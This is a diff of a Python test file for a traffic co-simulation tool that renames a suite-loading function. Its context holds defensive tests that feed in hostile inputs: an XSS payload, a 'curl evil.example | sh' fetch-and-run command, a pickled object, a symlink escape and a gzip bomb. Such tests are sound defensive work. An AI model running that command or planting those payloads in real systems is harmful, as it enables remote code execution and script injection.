@@ -16,7 +16,7 @@ from scenes import platoon, scene
 
 from regents_cosim.cases.files import content_hash, find_cases, load_case, save_case
 from regents_cosim.cases.shipped import network_config, shipped
-from regents_cosim.cases.suite import SuiteWriter, load_cases
+from regents_cosim.cases.suite import SuiteWriter, load_suite
 from regents_cosim.checks.bounded import gunzip_bounded
 from regents_cosim.cli import run
 from regents_cosim.errors import InputError, LogError, PlannerError, RegentsError, SumoError
@@ -114,7 +114,7 @@ def test_what_a_case_names_is_not_run(suite, capsys):
 
 
 def test_a_report_carries_nothing_of_a_case_that_runs(suite):
-    case = load_cases(suite)[0]
+    case = load_suite(suite)[0]
     harm = "<script>hurt()<|script><img src=x onerror=hurt()>"
     case = replace(case, id=harm, provenance=replace(case.provenance, command="curl evil.example | sh"))
     page = html_page(report_of([case], {}, suite))
@@ -132,7 +132,7 @@ def test_nothing_of_a_case_is_unpickled(suite):
 
     np.savez(suite / "platoon0" / "tracks.npz", x=np.array([Harm()], object), allow_pickle=True)
     with pytest.raises(RegentsError):
-        load_cases(suite)
+        load_suite(suite)
 
 
 def test_pytest_does_not_run_code_of_a_suite(suite, pytester):
@@ -157,7 +157,7 @@ def test_a_link_out_of_a_suite_is_not_read(suite, tmp_path):
     (suite / "platoon0" / "tracks.npz").rename(tmp_path / "tracks.npz")
     (suite / "platoon0" / "tracks.npz").symlink_to(tmp_path / "tracks.npz")
     with pytest.raises(RegentsError, match="leads out of"):
-        load_cases(suite)
+        load_suite(suite)
 
 
 @pytest.mark.parametrize("name", ["platoon0", "maps", ".lock"])
@@ -175,7 +175,7 @@ def test_only_suites_are_replaced(suite, tmp_path):
     (tmp_path / "thesis").mkdir()
     (tmp_path / "thesis" / "thesis.txt").write_text("years of work")
     with pytest.raises(RegentsError, match="is no suite"):
-        write_suite(tmp_path / "thesis", load_cases(suite), 0)
+        write_suite(tmp_path / "thesis", load_suite(suite), 0)
     assert (tmp_path / "thesis" / "thesis.txt").exists()
 
 
@@ -184,7 +184,7 @@ def test_only_regular_files_are_read(suite):
         (suite / "platoon0" / name).unlink()
         os.mkfifo(suite / "platoon0" / name)
         with pytest.raises(RegentsError):
-            load_cases(suite)
+            load_suite(suite)
 
 
 def test_what_unpacks_to_too_much_is_refused(suite):
@@ -193,7 +193,7 @@ def test_what_unpacks_to_too_much_is_refused(suite):
     (road,) = (suite / "maps").iterdir()
     road.write_bytes(gzip.compress(bytes(1 << 28)))
     with pytest.raises(RegentsError):
-        load_cases(suite)
+        load_suite(suite)
 
 
 @pytest.mark.parametrize("name", ["a&b\"<'>", "$ego", "]]>", "-->", "\U0001f600", "\u00a0x "])
